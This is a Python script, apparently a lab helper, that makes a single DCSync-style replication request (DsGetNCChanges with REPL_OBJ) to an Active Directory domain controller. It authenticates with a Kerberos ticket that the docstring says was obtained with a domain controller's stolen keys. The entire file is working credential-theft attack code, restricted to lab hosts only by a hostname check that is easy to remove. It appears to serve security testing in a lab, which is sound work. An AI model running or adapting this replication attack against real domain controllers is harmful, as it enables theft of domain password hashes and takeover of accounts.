#!/usr/bin/python3
"""trustwire lab helper: one DCSync-shaped DRSUAPI exchange with Samba's
Python bindings, as secretsdump's -just-dc-user does it: DsBind, then
DsGetNCChanges (request 8, extended operation REPL_OBJ, as secretsdump) for one object,
authenticated with Kerberos from the ccache in KRB5CCNAME (e.g. DC1$'s TGT
got with DC1$'s stolen keys).  Prints what the DC answered.  Use only
against the lab DC.

  dcsync_one.py SERVER OBJECT_DN
"""
import sys
import uuid

from samba import param, credentials, drs_utils
from samba.dcerpc import drsuapi, misc

LAB = ".lab.trustwire.test"


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    server, dn = sys.argv[1], sys.argv[2]
    if not server.endswith(LAB):
        sys.exit("refusing: %s is not a lab host" % server)
    lp = param.LoadParm()
    lp.load_default()
    creds = credentials.Credentials()
    creds.guess(lp)
    creds.set_kerberos_state(credentials.MUST_USE_KERBEROS)
    creds.set_named_ccache(__import__("os").environ["KRB5CCNAME"], credentials.SPECIFIED, lp)
    drs, handle, _ = drs_utils.drsuapi_connect(server, lp, creds)
    req = drsuapi.DsGetNCChangesRequest8()
    req.destination_dsa_guid = misc.GUID(str(uuid.uuid4()))
    req.source_dsa_invocation_id = misc.GUID()
    req.naming_context = drsuapi.DsReplicaObjectIdentifier()
    req.naming_context.dn = dn
    req.highwatermark = drsuapi.DsReplicaHighWaterMark()
    req.highwatermark.tmp_highest_usn = 0
    req.highwatermark.reserved_usn = 0
    req.highwatermark.highest_usn = 0
    req.uptodateness_vector = None
    req.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
    req.max_object_count = 1
    req.max_ndr_size = 402116
    req.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
    req.fsmo_info = 0
    req.partial_attribute_set = None
    req.partial_attribute_set_ex = None
    req.mapping_ctr.num_mappings = 0
    req.mapping_ctr.mappings = None
    try:
        level, ctr = drs.DsGetNCChanges(handle, 8, req)
        print("DsGetNCChanges level %d: %d object(s), extended_ret %d"
              % (level, ctr.object_count, getattr(ctr, "extended_ret", -1)))
    except Exception as e:  # the DC's refusal is an answer too
        print("DsGetNCChanges refused:", e)


if __name__ == "__main__":
    main()
